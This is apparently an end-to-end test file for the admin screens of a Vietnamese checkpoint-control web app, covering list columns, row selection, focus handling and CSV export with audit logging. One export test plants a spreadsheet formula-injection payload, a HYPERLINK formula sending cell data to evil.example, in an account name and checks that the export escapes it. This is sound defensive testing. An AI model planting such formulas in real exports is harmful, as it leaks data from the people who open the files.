import { testPassword } from '#test/server.ts';
import { readFile } from 'node:fs/promises';
import type { Download, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eventually, openAt, panel, query, rows, signIn } from './at-the-desk.ts';
import { expectAccessible, startJourneys, type Journeys, type Size } from './harness.ts';

let journeys: Journeys;
beforeAll(async () => (journeys = await startJourneys({ demo: true })));
afterAll(() => journeys.stop());
beforeEach(() => journeys.server.sql(`delete from audit_entry where action = 'list.export'`));

async function openList(address: string, size: Size = 'desktop', username?: string): Promise<Page> {
  const page = await openAt(journeys, size, address, username);
  await rows(page).first().waitFor();
  return page;
}
const heads = async (page: Page) =>
  (await page.locator('thead th:not(.tick-cell)').allInnerTexts()).map((text) => text.trim());
const ticked = (page: Page) => page.locator('tbody input:checked').count();
const linesOf = async (download: Download) =>
  (await readFile(await download.path(), 'utf8')).split('\r\n').filter((line) => line !== '');
const exports = () =>
  journeys.server.sql<{ detail: object }>(`select detail from audit_entry where action = 'list.export'`);
/** Where the keyboard is, that is not the page as a whole. */
const focused = (page: Page) =>
  page.evaluate(() => document.activeElement?.closest('tr, button, main, a')?.tagName ?? null);

describe('the columns of a list', () => {
  it('are chosen by the keyboard, remembered, and one always stays', async () => {
    const page = await openList('/admin/checkpoints');
    expect(await heads(page)).toEqual(['Tên chốt', 'Mã chốt', 'Đơn vị hành chính', 'Loại', 'Tình trạng']);
    await page.getByRole('button', { name: 'Cột', exact: true }).focus();
    await page.keyboard.press('Enter');
    await page.getByRole('checkbox', { name: 'Tên chốt' }).waitFor();
    await expectAccessible(page);
    await page.keyboard.press('Space');
    await eventually(() => heads(page)).toEqual(['Mã chốt', 'Đơn vị hành chính', 'Loại', 'Tình trạng']);
    for (const name of ['Đơn vị hành chính', 'Loại', 'Tình trạng'])
      await page.getByRole('checkbox', { name }).uncheck();
    expect(await page.getByRole('checkbox', { name: 'Mã chốt' }).isDisabled()).toBe(true);
    await page.keyboard.press('Escape');
    expect(
      await page.getByRole('button', { name: 'Cột', exact: true }).evaluate((it) => it === document.activeElement),
    ).toBe(true);

    await page.reload();
    await rows(page).first().waitFor();
    expect(await heads(page)).toEqual(['Mã chốt']);
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.getByRole('complementary').getByRole('heading', { level: 2 }).waitFor();
    await page.getByRole('button', { name: 'Cột', exact: true }).click();
    await page.getByRole('button', { name: 'Như ban đầu' }).click();
    await eventually(() => heads(page)).toHaveLength(5);
  });
});

describe('the panel of an opened row', () => {
  it('says that the list could not be fetched, and not that the row is gone; and asks again', async () => {
    const page = await journeys.visit('desktop');
    let away = true;
    await page.route('**/graphql', (route) =>
      away && route.request().postData()?.includes('PeopleToCheck') ? route.abort() : route.fallback(),
    );
    await page.goto('/admin/mismatches?open=01900000-0000-7000-8000-000000000000');
    await signIn(page, 'admin.38', testPassword);
    await panel(page).getByRole('alert').getByText('Chưa liên lạc được với máy chủ').waitFor();
    expect(await panel(page).getByText('Không tìm thấy').count()).toBe(0);
    away = false;
    await panel(page).getByRole('button', { name: 'Thử lại' }).click();
    await panel(page).getByRole('heading', { name: 'Không tìm thấy' }).waitFor();
  });
});

describe('a list as a file', () => {
  it('holds all that the conditions find, as shown and masked, and stands in the audit trail', async () => {
    const page = await openList('/admin/passages?decision=REFUSED&from=2020-01-01&superseded=yes');
    const total = Number((await page.getByRole('status').getByText(/lượt$/).innerText()).replace(/\D/g, ''));
    await page.getByRole('button', { name: 'Xuất ra tệp' }).click();
    const dialog = page.getByRole('dialog', { name: 'Xuất ra tệp' });
    await dialog.getByText('che như trên màn hình').waitFor();
    await expectAccessible(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Xuất', exact: true }).click(),
    ]);
    await dialog.getByText(`Đã xuất ${total} hàng vào tệp ${download.suggestedFilename()}.`).waitFor();
    await expectAccessible(page);
    expect(download.suggestedFilename()).toMatch(/^luot-qua-chot_2020-01-01_\d{4}-\d\d-\d\d-\d\d-\d\d\.csv$/);
    const lines = await linesOf(download);
    expect(lines).toHaveLength(total + 1);
    expect(lines[0]).toBe('\uFEFFLúc,Chốt,Hướng,Người,Đi từ,Biển số,Kết quả,Kênh');
    expect(lines[1]).toMatch(/^\d\d\/\d\d\/\d{4} \d\d:\d\d,/);
    expect(lines.slice(1).every((line) => line.includes('Từ chối'))).toBe(true);
    const conditions = { decision: 'REFUSED', from: '2019-12-31T17:00:00.000Z', superseded: true };
    expect(await exports()).toEqual([{ detail: { list: 'passages', rows: total, conditions } }]);

    await dialog.getByRole('button', { name: 'Đóng' }).click();
    await dialog.waitFor({ state: 'detached' });
    expect(await focused(page)).toBe('BUTTON');

    const auditor = await openList('/admin/audit?action=list_export', 'desktop', 'auditor.38');
    await rows(auditor).first().click();
    const entry = auditor.getByRole('complementary');
    await entry.getByText('Từ: 01/01/2020 00:00; Kết quả: Từ chối; Kể cả đã sửa và đã hủy: Có').waitFor();
    await entry.getByText('Lượt qua chốt').waitFor();
  });

  it('is walked page by page beyond what is loaded, and has only the columns that are shown', async () => {
    const page = await openList('/admin/declarations');
    await page.getByRole('button', { name: 'Cột', exact: true }).click();
    for (const name of ['Lúc', 'Người', 'Đi từ', 'Đến', 'Biển số', 'Kênh', 'Nộp lúc']) {
      const box = page.getByRole('checkbox', { name, exact: true });
      if ((await box.count()) > 0) await box.uncheck();
    }
    await page.keyboard.press('Escape');
    const total = Number(
      (
        await page
          .getByRole('status')
          .getByText(/tờ khai$/)
          .innerText()
      ).replace(/\D/g, ''),
    );
    expect(total).toBeGreaterThan(200);
    await page.keyboard.press('e');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('dialog').getByRole('button', { name: 'Xuất', exact: true }).click(),
    ]);
    const lines = await linesOf(download);
    expect(lines[0]).toBe('\uFEFFLời khuyên,Mã');
    expect(new Set(lines).size).toBe(total + 1);
    expect(await exports()).toHaveLength(1);
  });

  it('is given up half-way without a file, and goes on after the network came back', async () => {
    const page = await openList('/admin/declarations');
    let pages = 0;
    let isAway = false;
    await page.route('**/graphql', async (route) => {
      if (!route.request().postData()?.includes('forExport":true')) return route.continue();
      pages += 1;
      return isAway ? route.abort() : pages > 2 ? new Promise(() => undefined) : route.continue();
    });
    await page.keyboard.press('e');
    const dialog = page.getByRole('dialog', { name: 'Xuất ra tệp' });
    await dialog.getByRole('button', { name: 'Xuất', exact: true }).click();
    await dialog.getByText(/^200 trên/).waitFor();
    await expectAccessible(page);
    await dialog.getByRole('button', { name: 'Dừng' }).click();
    await dialog.waitFor({ state: 'detached' });

    isAway = true;
    await page.keyboard.press('e');
    await dialog.getByRole('button', { name: 'Xuất', exact: true }).click();
    await dialog.getByText('Chưa liên lạc được với máy chủ.').waitFor();
    await expectAccessible(page);
    await page.unroute('**/graphql');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Thử lại' }).click(),
    ]);
    expect((await linesOf(download)).length).toBeGreaterThan(200);
  });

  it('holds no formula, whatever somebody is called', async () => {
    const attack = `=HYPERLINK("http://evil.example/?"&A1,"Xem")`;
    await journeys.server.sql('update account set full_name = $1 where username = $2', [attack, 'officer.38.4']);
    const page = await openList('/admin/accounts');
    await page.keyboard.press('e');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('dialog').getByRole('button', { name: 'Xuất', exact: true }).click(),
    ]);
    const lines = await linesOf(download);
    expect(lines).toContainEqual(expect.stringContaining(`"'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")",`));
  });

  it('ends at 10,000 rows, and says so', async () => {
    const page = await openList('/admin/declarations');
    let first: string | null = null;
    await page.route('**/graphql', async (route) => {
      if (!route.request().postData()?.includes('forExport":true')) return route.continue();
      first ??= await (await route.fetch()).text();
      await route.fulfill({
        contentType: 'application/json',
        body: first.replace(/"totalCount":\d+/, '"totalCount":null'),
      });
    });
    await page.keyboard.press('e');
    const dialog = page.getByRole('dialog', { name: 'Xuất ra tệp' });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Xuất', exact: true }).click(),
    ]);
    expect(await linesOf(download)).toHaveLength(10_001);
    await dialog.getByText('Một tệp có nhiều nhất 10.000 hàng').waitFor();
  });

  it('is not offered to who may only look', async () => {
    const page = await openList('/admin/passages', 'desktop', 'tracer.38');
    expect(await page.getByRole('button', { name: 'Xuất ra tệp' }).count()).toBe(0);
    await page.keyboard.press('e');
    expect(await page.getByRole('dialog').count()).toBe(0);
  });
});

describe('the rows of a list', () => {
  it('are ticked by the keyboard, one by one and in ranges, and something is done with them', async () => {
    const page = await openList('/admin/checkpoints');
    await page.keyboard.press('j');
    await page.keyboard.press('x');
    await page.getByText('1 hàng đã đánh dấu').waitFor();
    for (const key of ['j', 'j', 'X']) await page.keyboard.press(key);
    await page.getByText('3 hàng đã đánh dấu').waitFor();
    await expectAccessible(page);
    await page.keyboard.press('x');
    expect(await ticked(page)).toBe(2);
    await page.keyboard.press('Escape');
    expect(await ticked(page)).toBe(0);
    expect(await focused(page)).toBe('A');

    await page.keyboard.press('x');
    await page.getByRole('link', { name: 'Xem lượt qua các chốt này' }).click();
    await page.getByRole('heading', { level: 1, name: 'Lượt qua chốt' }).waitFor();
    expect(query(page)['at']).toMatch(/^[0-9a-f-]{36}$/);
  });

  it.each<Size>(['phone', 'desktop'])('are ticked by a press at a %s, all at once too', async (size) => {
    const page = await openList('/admin/checkpoints', size);
    const boxes = page.locator('tbody').getByRole('checkbox');
    await boxes.nth(1).check();
    await boxes.nth(3).click({ modifiers: ['Shift'] });
    expect(await ticked(page)).toBe(3);
    expect(await page.getByRole('complementary').count()).toBe(0);
    await page.getByRole('checkbox', { name: 'Đánh dấu mọi hàng đã tải' }).click();
    expect(await ticked(page)).toBe(await rows(page).count());
    await expectAccessible(page);
    await page.getByRole('button', { name: 'Bỏ đánh dấu' }).click();
    expect(await ticked(page)).toBe(0);
    expect(await focused(page)).toBe('A');
  });
});

describe('the focus', () => {
  it('stays on the page when what was pressed goes', async () => {
    const page = await openList('/admin/declarations');
    await page.getByRole('button', { name: 'Xem thêm' }).click();
    await eventually(() => rows(page).count()).toBe(100);
    await eventually(() =>
      rows(page)
        .nth(50)
        .evaluate((row) => row.contains(document.activeElement)),
    ).toBe(true);
    await page.goto('/admin/declarations?advice=REFUSE&channel=PAPER');
    await page.getByRole('button', { name: 'Bỏ điều kiện: Nên từ chối' }).click();
    await eventually(() => query(page)).toEqual({ channel: 'PAPER' });
    expect(await focused(page)).toBe('BUTTON');
    await page.goto('/admin/passages?from=2030-01-01');
    await page.getByRole('button', { name: 'Bỏ mọi điều kiện' }).click();
    await rows(page).first().waitFor();
    expect(await focused(page)).toBe('MAIN');
  });
});

describe('a unit', () => {
  it.each([
    ['checkpoints', 'Đơn vị hành chính'],
    ['accounts', 'Đơn vị'],
  ])('narrows the %s, and stands in the address', async (list, kind) => {
    const page = await openList(`/admin/${list}`);
    const all = await rows(page).count();
    await page.keyboard.press('f');
    const kinds = page.getByRole('button', { name: kind, exact: true });
    await kinds.click();
    await page.getByRole('combobox').pressSequentially('quang xuong');
    await page.getByRole('option', { name: /^Huyện Quảng Xương/ }).click();
    await page.getByRole('button', { name: 'ở Huyện Quảng Xương: đổi điều kiện' }).waitFor();
    expect(query(page)).toEqual({ unit: '406' });
    await eventually(() => rows(page).count()).toBeLessThan(all);
  });
});
